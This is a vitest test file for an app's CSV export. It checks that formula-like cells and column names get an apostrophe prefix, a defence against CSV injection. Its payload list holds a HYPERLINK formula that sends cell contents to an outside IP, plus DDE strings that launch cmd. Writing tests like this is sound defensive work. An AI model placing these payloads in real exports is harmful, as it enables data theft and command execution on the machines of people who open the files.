import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { rejectsTable } from "../../../../app/_tables/rejects";
import { toCsv } from "../../../../app/_tables/to-csv";
import type { RejectRow } from "../../../../db/queries/rejects-of";

/** Beginnings that OWASP's page on CSV injection names, each with one of its or the trade's well-known payloads. */
const FORMULAS = [
  '=HYPERLINK("http://198.51.100.7/?x="&A1,"Open")',
  "=1+1",
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "-1-1",
  "--5",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(A1)",
];

const PLAIN = [
  "",
  "E07",
  "1,2",
  'a "quoted" word',
  "two\nlines",
  "'quoted",
  "x=1",
  "-5",
  "-12.75",
  "<b>bold</b>",
];

describe("a table as CSV", () => {
  it.each(FORMULAS)("puts an apostrophe before %j", (text) => {
    const [header, [cell]] = rowsOf([text]);
    expect(header).toEqual(["Text"]);
    expect(cell).toBe(`'${text}`);
  });

  it.each(FORMULAS)("puts it before %j as the name of a column, too", (text) => {
    const csv = toCsv({
      name: "t",
      caption: "t",
      rows: [],
      columns: [{ title: text, text: () => "", value: () => "" }],
    });
    expect(Papa.parse<string[]>(csv).data[0]).toEqual([`'${text}`]);
  });

  it.each(PLAIN)("leaves %j as it is", (text) => {
    expect(rowsOf([text])[1][0]).toBe(text);
  });

  it("leaves numbers numbers, negative ones and small ones among them", () => {
    const csv = toCsv({
      name: "t",
      caption: "t",
      rows: [-5, -0.25, 1e21, -1e-9, 0],
      columns: [{ title: "Grid", unit: "W", text: String, value: (n: number) => n }],
    });
    expect(csv).toBe("Grid (W)\r\n-5\r\n-0.25\r\n1e+21\r\n-1e-9\r\n0\r\n");
  });

  it("keeps a formula inside its cell, whatever delimiters and quotes it holds", () => {
    const text = '=1,2","=3\r\n=4';
    expect(rowsOf([text, "next"])).toEqual([["Text"], [`'${text}`], ["next"]]);
  });

  it("gives what could not be taken of a log so, the names of its columns included", () => {
    const reject = {
      line: 7,
      columnNo: 2,
      columnName: "=1+1",
      code: "cell.not-a-number",
      text: "@SUM(A1)",
      guessed: true,
    } as unknown as RejectRow;
    const [, row] = Papa.parse<string[]>(toCsv(rejectsTable([reject]))).data;
    expect(row).toEqual(["7", "'=1+1", "cell.not-a-number", "'@SUM(A1)", "guessed"]);
  });
});

function rowsOf(texts: readonly string[]): string[][] {
  const csv = toCsv({
    name: "t",
    caption: "t",
    rows: texts,
    columns: [{ title: "Text", text: (t) => t, value: (t) => t }],
  });
  expect(csv.endsWith("\r\n")).toBe(true);
  return Papa.parse<string[]>(csv.slice(0, -2), { delimiter: ",", newline: "\r\n" }).data;
}
